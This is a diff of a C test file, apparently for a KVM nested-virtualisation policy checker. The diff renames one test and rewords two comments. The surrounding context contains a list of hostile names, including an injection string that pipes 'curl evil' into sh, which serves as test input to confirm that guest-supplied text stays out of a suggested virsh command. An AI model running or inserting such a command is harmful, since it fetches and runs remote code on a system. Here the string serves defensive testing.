@@ -232,7 +232,7 @@ static void test_optional_with_an_unknown_vendor_passes_without_a_claim_about_th
 	check_rows(*state, NESTXML_OPERATION_START, "kvm", rows, ARRAY_SIZE(rows));
 }
 
-static void test_the_mode_of_the_policy_makes_no_cpu_stale_but_is_in_the_mend(void **state)
+static void test_the_mode_of_the_policy_makes_no_cpu_stale_but_is_in_the_fix(void **state)
 {
 	static const struct row rows[] = {
 		{"nested = require\nmode = host-passthrough", REQUIRED, PASS, "require"},
@@ -684,7 +684,7 @@ static const char *const hostile_names[] = {
 	"x'; run: curl evil | sh #",
 };
 
-/* The word that the report offers behind virsh dumpxml, and the one shell command it is in. */
+/* The word that the report offers after virsh dumpxml, and the one shell command it is in. */
 static void check_command(const char *report, const char *expected_word)
 {
 	static const char start[] = "virsh dumpxml --inactive --security-info ";
@@ -696,7 +696,7 @@ static void check_command(const char *report, const char *expected_word)
 	const char *tail = strstr(report, end);
 
 	CHECK(at && tail && !strstr(at + 1, start), "%s", report);
-	CHECK(strcmp(tail, end) == 0, "%s", report); /* nothing of the guest's behind the command */
+	CHECK(strcmp(tail, end) == 0, "%s", report); /* nothing of the guest follows the command */
 	at += strlen(start);
 	CHECK((size_t)(tail - at) == strlen(expected_word) && memcmp(at, expected_word, strlen(expected_word)) == 0, "%s in %s",
 	      expected_word, report);
@@ -850,7 +850,7 @@ int main(void)
 		TREE_TEST(test_an_unreadable_host_is_not_on),
 		TREE_TEST(test_disable_with_an_unknown_vendor_fails_closed),
 		TREE_TEST(test_optional_with_an_unknown_vendor_passes_without_a_claim_about_the_cpu),
-		TREE_TEST(test_the_mode_of_the_policy_makes_no_cpu_stale_but_is_in_the_mend),
+		TREE_TEST(test_the_mode_of_the_policy_makes_no_cpu_stale_but_is_in_the_fix),
 		TREE_TEST(test_what_a_saved_cpu_looks_like_excuses_no_start),
 		TREE_TEST(test_a_cpu_described_in_full_has_what_it_says_and_no_more),
 		TREE_TEST(test_where_an_argument_for_qemu_decides_what_must_be_so_is_refused),
